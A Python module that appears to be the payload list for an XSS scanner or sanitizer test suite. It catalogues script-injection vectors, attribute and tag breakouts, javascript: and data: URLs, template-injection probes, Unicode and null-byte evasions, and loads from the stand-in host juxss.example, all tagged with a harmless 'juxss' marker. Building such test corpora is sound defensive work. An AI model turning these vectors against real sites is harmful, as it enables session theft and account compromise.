"""What attackers type to have a page carry out their words; each carries a mark to find it by."""

from __future__ import annotations

MARK = "juxss"
"""In every vector: in texts and values it may stand, in names of elements it may not."""

_ACT = f"{MARK}()"
_ELEMENTS = (
    f"<{MARK}>",
    f"</{MARK}>",
    f"<{MARK} x=1>",
    f"<script>{_ACT}</script>",
    f"<ScRiPt>{_ACT}</sCrIpT>",
    f"<script src=//{MARK}.example></script>",
    f"</script><script>{_ACT}</script>",
    f"<script>{_ACT}//",
    f"<scr<script>ipt>{_ACT}</scr</script>ipt>",
    f"<img src=x onerror={_ACT}>",
    f"<img src=x onerror=`{_ACT}`>",
    f"<img/src=x/onerror={_ACT}>",
    f"<img src='x' onerror\n=\n'{_ACT}'>",
    f"<svg onload={_ACT}>",
    f"<svg/onload={_ACT}//",
    f"<svg><script>{_ACT}</script></svg>",
    f"<svg><animate onbegin={_ACT} attributeName=x>",
    f"<svg><a xlink:href=javascript:{_ACT}>x</a>",
    f"<math><mi xlink:href=javascript:{_ACT}>x",
    f"<body onload={_ACT}>",
    f"<input autofocus onfocus={_ACT}>",
    f"<details open ontoggle={_ACT}>",
    f"<video><source onerror={_ACT}>",
    f"<iframe srcdoc='<script>{_ACT}'>",
    f"<iframe src=javascript:{_ACT}>",
    f"<object data=javascript:{_ACT}>",
    f"<embed src=//{MARK}.example>",
    f"<base href=//{MARK}.example/>",
    f"<meta http-equiv=refresh content=0;url=//{MARK}>",
    f"<link rel=stylesheet href=//{MARK}.example>",
    f"<form action=//{MARK}.example><button>x",
    f"<style>@import '//{MARK}.example';</style>",
    f"<template><{MARK}></template>",
    f"<noscript><p title='</noscript><{MARK}>'>",
    f"<!--{MARK}--><{MARK}>",
    f"<![CDATA[<{MARK}>]]>",
    f"<?{MARK} x?>",
)
_WAYS_OUT = (
    f'"><{MARK}>',
    f"'><{MARK}>",
    f'" onmouseover="{_ACT}',
    f"' onmouseover='{_ACT}",
    f" onfocus={_ACT} autofocus ",
    f"`onclick={_ACT}`",
    f"</title><{MARK}>",
    f"</textarea><{MARK}>",
    f"</select><{MARK}>",
    f"--><{MARK}>",
    f"]]><{MARK}>",
    f"'-{_ACT}-'",
    f"\\';{_ACT}//",
)
_ADDRESSES = (
    f"javascript:{_ACT}",
    f"JaVaScRiPt:{_ACT}",
    f"java\tscript:{_ACT}",
    f"\x01javascript:{_ACT}",
    f"data:text/html,<script>{_ACT}</script>",
    f"vbscript:{_ACT}",
    f"//{MARK}.example/",
)
_TEMPLATES = (
    f"{{{{7*191}}}}{MARK}",
    f"${{7*191}}{MARK}",
    f"{{% debug %}}{MARK}",
    f"#{{7*191}}{MARK}",
    f"<%= 7*191 %>{MARK}",
)
_SIGNS = (
    f"辻\U000e0100<{MARK}>",
    f"\u202e<{MARK}>\u202c",
    f"\u2066\u200f<{MARK}>",
    f"＜{MARK}＞＂",
    f"\ufeff<{MARK}>",
    f"&lt;{MARK}&gt;<{MARK}>",
    f"&#60;{MARK}&#62;",
    f"%3C{MARK}%3E",
    f"\\u003c{MARK}\\u003e",
    f"<\x00{MARK}>",
    f"<\x00script>{_ACT}</script>",
    f"<scr\x00ipt>{_ACT}</script>",
)
VECTORS = (*_ELEMENTS, *_WAYS_OUT, *_ADDRESSES, *_TEMPLATES, *_SIGNS)
